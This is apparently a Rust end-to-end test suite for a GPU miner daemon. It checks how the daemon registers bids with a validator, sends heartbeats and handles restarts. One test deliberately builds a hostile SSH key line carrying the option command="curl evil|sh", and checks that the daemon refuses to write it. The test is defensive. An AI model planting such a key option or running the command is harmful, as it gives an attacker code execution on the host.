//! Generation 2 end to end: `serve` registering at an independent validator (Python grpcio
//! server compiled from proto/, every signature checked with bittensor-wallet), real sshd nodes
//! on distinct loopback addresses with fake GPUs, the chain double for the assignment and the
//! validator's axon IP.

use std::process::Command;
use std::time::{Duration, Instant};

use basilica_miner::core::identity::wallet::Keypair;
use basilica_miner::testbed::GpuProfile::*;
use basilica_miner::testbed::Testbed;

use crate::support::{advertised, ips, online_setup, sandbox_for, validator_lines, BidValidator};
use crate::support::{free_port, http_get, setup_bed, start_with, wait_for};
use basilica_miner::testbed::chain_double::ChainDouble;

#[test]
fn serve_registers_healthy_nodes_heartbeats_and_follows_restarts_and_reloads() {
    let double = ChainDouble::start();
    let bid_port = free_port();
    let (s, bed, miner_hotkey, grpc, metrics) = online_setup(&double, bid_port);
    let alice = Keypair::from_uri("//Alice").unwrap();
    let mut v = BidValidator::start(
        "127.0.0.1",
        bid_port,
        &s.path("bids.jsonl"),
        &s.path("validator_ed25519.pub"),
        2,
        &["--known", &miner_hotkey],
    );
    let d = start_with(&s, grpc, metrics, &["serve"]);

    wait_for("a RegisterBid", &d, 40, || !v.of("RegisterBid").is_empty());
    let first = &v.of("RegisterBid")[0];
    assert_eq!(first["miner_hotkey"], miner_hotkey.as_str());
    assert_eq!(
        advertised(first),
        vec![
            ("127.0.0.11".to_string(), "H100".to_string(), 8, 250),
            ("127.0.0.12".to_string(), "A100".to_string(), 4, 250)
        ],
        "exactly the two healthy nodes; the node whose driver is down is left out\n{}",
        d.log()
    );
    assert!(first["nodes"]
        .as_array()
        .unwrap()
        .iter()
        .all(|n| n["attestation_len"] == 0 && n["port"].as_u64().unwrap() > 0));

    // Waiting for a first check or validation is the daemon's own work (info); a node with a
    // problem, the driverless one, is warned about.
    let log = d.log();
    let warned: Vec<&str> =
        log.lines().filter(|l| l.contains("WARN") && l.contains("node not advertised to the validator")).collect();
    assert!(warned.iter().all(|l| !l.contains("127.0.0.11:") && !l.contains("127.0.0.12:")), "{}", warned.join("\n"));
    assert!(warned.iter().any(|l| l.contains("127.0.0.13:")), "{log}");
    assert!(log.contains("node not advertised yet"), "{log}");

    // The key the validator returned is the one validator line on the nodes, tagged with Alice.
    let key = std::fs::read_to_string(s.path("validator_ed25519.pub")).unwrap();
    let blob = key.split_whitespace().nth(1).unwrap().to_string();
    wait_for("the validator key on the advertised nodes", &d, 20, || {
        bed.nodes[..2].iter().all(|n| n.read_authorized_keys().contains(&format!("{blob} validator-{}", alice.ss58)))
    });
    for n in &bed.nodes[..2] {
        assert_eq!(n.read_authorized_keys().matches(" validator-").count(), 1, "{}", n.read_authorized_keys());
    }

    // Heartbeats at the returned interval (2 s), naming the advertised hosts.
    wait_for("three heartbeats", &d, 20, || v.of("HealthCheck").len() >= 3);
    let beats = v.of("HealthCheck");
    assert_eq!(beats[0]["hosts"], serde_json::json!(["127.0.0.11", "127.0.0.12"]));
    let gaps: Vec<String> = beats
        .windows(2)
        .map(|p| format!("{:.2}", p[1]["at"].as_f64().unwrap() - p[0]["at"].as_f64().unwrap()))
        .collect();
    eprintln!("heartbeat gaps (interval 2 s): {}", gaps.join(", "));
    for pair in beats.windows(2) {
        let gap = pair[1]["at"].as_f64().unwrap() - pair[0]["at"].as_f64().unwrap();
        assert!((1.5..6.0).contains(&gap), "heartbeat gap {gap:.2} s, interval 2 s\n{}", d.log());
    }
    let m = http_get(d.metrics, "/metrics");
    assert!(m.contains(&format!("basilica_miner_bid_registered{{validator=\"{}\"}} 1", alice.ss58)), "{m}");
    assert!(m.contains("basilica_miner_bid_heartbeats_total{result=\"ok\"}"), "{m}");
    assert!(!m.contains("basilica_miner_bid_last_heartbeat_timestamp_seconds 0\n"), "{m}");
    let status = s.run(&["--json", "bid", "status"]).code(0).json();
    assert_eq!(status["registration"]["validator_hotkey"], alice.ss58.as_str());
    assert_eq!(status["registration"]["advertised"].as_array().unwrap().len(), 2);
    assert_eq!(status["registration"]["last_heartbeat_result"], "ok");
    // `status` shows the bid the same way, online with a fresh metagraph; what needs
    // attention is the node whose driver is down, named with its fix.
    let st = s.run(&["--json", "status"]).code(1).json();
    assert_eq!(st["registration"]["registered"], true, "{st:#}");
    assert_eq!(st["registration"]["advertised"].as_array().unwrap().len(), 2);
    assert_eq!(st["registration"]["last_heartbeat_result"], "ok");
    assert_eq!(st["chain"]["online"], true);
    assert!(st["chain"]["metagraph_age_secs"].as_i64().is_some_and(|a| a <= 10), "{st:#}");
    assert_eq!(st["validator"]["hotkey"], alice.ss58.as_str());
    let subjects: Vec<&str> =
        st["attention"].as_array().unwrap().iter().map(|a| a["subject"].as_str().unwrap()).collect();
    assert_eq!(subjects, [st["nodes"][2]["address"].as_str().unwrap()], "{st:#}");
    s.run(&["status"]).code(1).stdout_has("Bidding    gen 2: registered · heartbeat").stdout_has("2/2 nodes active");

    // The validator restarts and forgets everything: the miner registers again soon after.
    v.stop();
    std::thread::sleep(Duration::from_secs(4));
    let before = v.of("RegisterBid").len();
    let back = Instant::now();
    v = BidValidator::start(
        "127.0.0.1",
        bid_port,
        &s.path("bids.jsonl"),
        &s.path("validator_ed25519.pub"),
        2,
        &["--known", &miner_hotkey],
    );
    wait_for("a RegisterBid after the validator came back", &d, 30, || v.of("RegisterBid").len() > before);
    let took = back.elapsed();
    assert!(took < Duration::from_secs(30), "re-registered after {took:?}");
    assert_eq!(advertised(v.of("RegisterBid").last().unwrap()).len(), 2);
    wait_for("the recovery in the log", &d, 10, || d.log().contains("bidding works again"));
    eprintln!("re-registered {took:?} after the validator came back");

    // A price change is an UpdateBid; a node removed with a reload is a RemoveBid for its host.
    let text = s.read("miner.toml").replacen("hourly_rate_per_gpu = 2.5\n", "hourly_rate_per_gpu = 3.0\n", 1);
    s.write("miner.toml", &text);
    let _ = Command::new("kill").args(["-HUP", &d.child.id().to_string()]).status();
    wait_for("an UpdateBid", &d, 20, || !v.of("UpdateBid").is_empty());
    let u = &v.of("UpdateBid")[0];
    assert_eq!((u["host"].as_str(), u["hourly_rate_cents"].as_u64()), (Some("127.0.0.11"), Some(300)));
    s.run(&["--yes", "node", "remove", "127.0.0.12"]).code(0);
    let _ = Command::new("kill").args(["-HUP", &d.child.id().to_string()]).status();
    wait_for("a RemoveBid", &d, 20, || !v.of("RemoveBid").is_empty());
    assert_eq!(v.of("RemoveBid")[0]["hosts"], serde_json::json!(["127.0.0.12"]));
    let beats_before = v.of("HealthCheck").len();
    wait_for("a heartbeat for the one node left", &d, 20, || v.of("HealthCheck").len() > beats_before);
    assert_eq!(v.of("HealthCheck").last().unwrap()["hosts"], serde_json::json!(["127.0.0.11"]));

    // A restarted daemon resumes from the database: it heartbeats the bid it had.
    drop(d);
    let seen = v.requests().len();
    let d = start_with(&s, grpc, metrics, &["serve"]);
    wait_for("a request after the restart", &d, 30, || v.requests().len() > seen);
    assert_eq!(v.requests()[seen]["method"], "HealthCheck", "resumed, not registered again\n{}", d.log());
    assert!(d.log().contains("resuming the bid from the database"), "{}", d.log());

    // Every request of the run was signed by the miner hotkey over the raw payload, and fresh.
    let all = v.requests();
    assert!(all.len() >= 8, "{all:?}");
    for r in &all {
        assert!(
            r["signature_ok"] == true && r["raw_only"] == true && r["fresh"] == true && r["signature_len"] == 64,
            "bad request {r}"
        );
    }
}

#[test]
fn a_hostile_key_from_a_validator_is_never_written_and_registration_is_retried() {
    let bed = Testbed::start_on(&[H100x8, H100x8], &ips(&[21, 22])).expect("testbed");
    let (s, bed, miner_hotkey, grpc, metrics) = setup_bed(sandbox_for(bed));
    let bid_port = free_port();
    // Two keys in one answer, the second with options: a validator trying to plant a shell.
    let key = std::fs::read_to_string(s.path("validator_ed25519.pub")).unwrap();
    let hostile = format!("{}command=\"curl evil|sh\" {}", key, key.trim_end());
    s.write("hostile.pub", &hostile);
    let v = BidValidator::start(
        "127.0.0.1",
        bid_port,
        &s.path("bids.jsonl"),
        &s.path("hostile.pub"),
        2,
        &["--keep-newline"],
    );
    let text = s.read("miner.toml");
    s.write("miner.toml", &format!("{text}\n[bidding]\nvalidator_endpoint = \"http://127.0.0.1:{bid_port}\"\n"));
    let d = start_with(&s, grpc, metrics, &["serve", "--offline"]);
    wait_for("two RegisterBid attempts", &d, 40, || v.of("RegisterBid").len() >= 2);
    wait_for("the refusal in the log", &d, 10, || d.log().contains("was refused; nothing was written"));
    let m = http_get(d.metrics, "/metrics");
    assert!(m.lines().any(|l| l.starts_with("basilica_miner_bid_rejected_keys_total ") && !l.ends_with(" 0")), "{m}");
    assert!(validator_lines(&bed).is_empty(), "{:?}", validator_lines(&bed));
    for n in &bed.nodes {
        assert!(!n.read_authorized_keys().contains("curl"), "{}", n.read_authorized_keys());
    }
    assert!(v.of("HealthCheck").is_empty(), "no heartbeat without an accepted registration");
    let status = s.run(&["--json", "bid", "status"]).code(1).json();
    assert_eq!(status["registered"], false);
    assert!(status["registration"]["last_error"].as_str().unwrap().contains("unacceptable SSH key"), "{status}");
    assert!(http_get(d.metrics, "/metrics").contains("basilica_miner_node_count 2"), "the daemon keeps serving");
    drop(miner_hotkey);
}
